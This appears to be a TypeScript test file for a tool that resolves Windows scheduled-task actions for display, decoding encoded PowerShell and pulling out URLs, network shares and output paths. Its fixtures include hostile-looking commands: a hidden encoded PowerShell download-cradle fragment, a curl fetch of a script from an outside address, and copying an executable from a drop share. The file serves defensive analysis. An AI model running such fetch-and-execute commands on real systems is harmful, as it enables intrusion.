// What an action comes to: read for display, never run, never fetched.
import { describe, expect, it } from 'vitest'
import { resolveAction } from '../../../src/tasks/resolve-action.ts'

const resolved = (command: string, args?: string) => {
  const found = resolveAction({ kind: 'exec', command, arguments: args, workingDirectory: undefined })
  if (!found) throw new Error('not resolved')
  return found
}
const encoded = (text: string) => Buffer.from(text, 'utf16le').toString('base64')

describe('an action', () => {
  it('has its variables put in beside what was written', () => {
    expect(resolved('%windir%\\System32\\cmd.exe', '/C whoami > %windir%\\Temp\\x.tmp 2>&1')).toMatchObject({
      line: '%windir%\\System32\\cmd.exe /C whoami > %windir%\\Temp\\x.tmp 2>&1',
      expanded: 'C:\\Windows\\System32\\cmd.exe /C whoami > C:\\Windows\\Temp\\x.tmp 2>&1',
      program: 'cmd.exe',
      interpreter: 'cmd.exe',
      output: 'C:\\Windows\\Temp\\x.tmp',
      decoded: undefined,
    })
    expect(resolved('%TEMP%\\a.exe').expanded).toBe('%TEMP%\\a.exe')
  })

  it.each(['-enc', '-e', '-EncodedCommand', '/ec', '\u2013encoded', '-eNcO'])(
    'has PowerShell of %s decoded',
    (option) => {
      const text = 'IEX (New-Object Net.WebClient)'
      expect(resolved('powershell.exe', `-nop -w hidden ${option} ${encoded(text)}`).decoded).toBe(text)
      expect(resolved('cmd.exe', `/c powershell ${option} ${encoded(text)}`).decoded).toBe(text)
    },
  )

  it('that is not encoded, or not PowerShell, has nothing decoded', () => {
    expect(resolved('powershell.exe', '-File C:\\scripts\\nightly.ps1').decoded).toBeUndefined()
    expect(resolved('powershell.exe', '-enc not!base64').decoded).toBeUndefined()
    expect(resolved('backup.exe', `-e ${encoded('text')}`).decoded).toBeUndefined()
  })

  it('tells web addresses, shares and where its output goes', () => {
    const found = resolved(
      'cmd.exe',
      '/c curl http://203.0.113.9/a.ps1 && copy \\\\10.1.2.3\\drop\\b.exe > \\\\10.1.2.3\\out\\r.txt',
    )
    expect(found.urls).toEqual(['http://203.0.113.9/a.ps1'])
    expect(found.uncPaths).toEqual(['\\\\10.1.2.3\\drop\\b.exe', '\\\\10.1.2.3\\out\\r.txt'])
    expect(found.output).toBe('\\\\10.1.2.3\\out\\r.txt')
    expect(resolved('C:\\Program Files\\A\\a.exe', '\\\\?\\C:\\x').uncPaths).toEqual([])
  })

  it('tells the program of a quoted path, and of one with arguments in the command', () => {
    expect(resolved('"C:\\Program Files\\A B\\a.exe" /x').path).toBe('C:\\Program Files\\A B\\a.exe')
    expect(resolved('C:\\Program Files\\A B\\a.exe /x').program).toBe('a.exe')
    expect(resolved('wscript', 'x.vbs').interpreter).toBe('wscript.exe')
  })

  it('of hostile length is read in no time', () => {
    const started = performance.now()
    for (const text of [
      'a '.repeat(100_000),
      '>'.repeat(200_000),
      '> '.repeat(100_000),
      `-enc ${'A'.repeat(200_000)}`,
      '\\\\a'.repeat(60_000),
      '%'.repeat(200_000),
    ])
      for (const command of ['powershell.exe', text]) resolved(command, text)
    expect(performance.now() - started).toBeLessThan(5000)
  })
})
